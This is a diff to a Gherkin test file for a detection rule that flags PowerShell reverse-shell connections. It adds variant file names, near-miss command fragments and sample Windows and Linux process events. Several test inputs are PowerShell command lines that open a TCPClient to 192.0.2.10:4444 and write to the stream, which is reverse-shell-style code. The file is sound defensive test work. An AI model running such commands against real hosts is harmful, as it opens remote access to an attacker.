@@ -18,6 +18,12 @@ Feature: Potential Powershell ReverseShell Connection
     Scenario: PowerShell under its own name
       Then the rule fires
 
+    Scenario: The folder it lies in does not matter
+      When its OriginalFileName is "-"
+      And its Image is each of:
+        | C:\Users\Public\pwsh.exe | D:\Lab\Bin\powershell.exe |
+      Then the rule fires via Image
+
     @non-obvious
     Scenario Outline: <program>
       As a rule both branches match and neither decides: one is put to the proof only where the other fails.
@@ -68,6 +74,14 @@ Feature: Potential Powershell ReverseShell Connection
         | A name that starts like PowerShell 7's | pwsh.dll.old       | pwsh.exe.old       |
         | PowerShell's name without its P        | owerShell.EXE      | owershell.exe      |
         | PowerShell 7's name without its p      | wsh.dll            | wsh.exe            |
+        | PowerShell's name with another P       | TowerShell.EXE     | towershell.exe     |
+        | PowerShell 7's name with another p     | swsh.dll           | swsh.exe           |
+        | PowerShell's name with another h       | PowersMell.EXE     | powersmell.exe     |
+        | PowerShell's name with a dash          | PowerS-hell.EXE    | powers-hell.exe    |
+        | PowerShell's name without its dot      | PowerShell_EXE     | powershell_exe     |
+        | PowerShell 7's name without its dot    | pwsh_dll           | pwsh_exe           |
+        | PowerShell 7's name with a suffix      | pwsh-preview.dll   | pwsh-preview.exe   |
+        | PowerShell 7's name with a dash        | pw-sh.dll          | pw-sh.exe          |
 
   Rule: The command line needs all three fragments
 
@@ -80,6 +94,16 @@ Feature: Potential Powershell ReverseShell Connection
         | upper case |
         | lower case |
 
+    @non-obvious
+    Scenario: The same shell, written in another order
+      The fragments may follow each other in any order, and nothing is asked of what stands around them.
+
+      When its CommandLine is:
+        """
+        powershell "$w = { $o.Write(0xA) }; $o = (New-Object -TypeName Net.Sockets.TCPClient 192.0.2.10, 4444).GetStream( ); & $w"
+        """
+      Then the rule fires
+
     Scenario Outline: Without <fragment>
       When its CommandLine has "<instead>" instead of "<fragment>"
       Then the rule is silent because CommandLine does not match
@@ -89,6 +113,19 @@ Feature: Potential Powershell ReverseShell Connection
         | Net.Sockets.TCPClient | Net.Sockets.Socket |
         | .GetStream(           | .Client.Send(      |
         | .Write(               | .Read(             |
+
+    Scenario Outline: Almost <fragment>: <instead>
+      When its CommandLine has "<instead>" instead of "<fragment>"
+      Then the rule is silent because CommandLine does not match
+
+      Examples:
+        | fragment              | instead                  |
+        | Net.Sockets.TCPClient | Net.Sockets-TCPClient    |
+        | Net.Sockets.TCPClient | Net.SocketsLab.TCPClient |
+        | .GetStream(           | .GetScream(              |
+        | .GetStream(           | .GetSubstream(           |
+        | .Write(               | .Wrote(                  |
+        | .Write(               | .WrapSite(               |
 
     Scenario Outline: A letter short of <fragment>
       When its CommandLine falls just short of <fragment>
@@ -121,12 +158,37 @@ Feature: Potential Powershell ReverseShell Connection
     Scenario: The start of a process, made without a look at the rule
       Given a process creation event with:
         | Image            | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe |
-        | OriginalFileName | PowerShell.EXE                                            |
+        | OriginalFileName | PowerShell.EXE                                                 |
       And its CommandLine is:
         """
         powershell "$c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
         """
       Then the rule fires
+
+    Scenario: The same start, as Windows' own audit tells it
+      Given the event:
+        """json
+        {
+          "Channel": "Security",
+          "EventID": 4688,
+          "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+          "CommandLine": "powershell $c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
+        }
+        """
+      Then the rule fires
+
+    Scenario: The same start on Linux
+      Given the event:
+        """json
+        {
+          "Channel": "Linux-Sysmon/Operational",
+          "EventID": 1,
+          "Image": "/opt/microsoft/powershell/7/pwsh",
+          "OriginalFileName": "pwsh.dll",
+          "CommandLine": "pwsh -c $c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
+        }
+        """
+      Then the rule is silent because of its log source
 
     Scenario: The connection itself is for other rules
       Given a benign network connection event
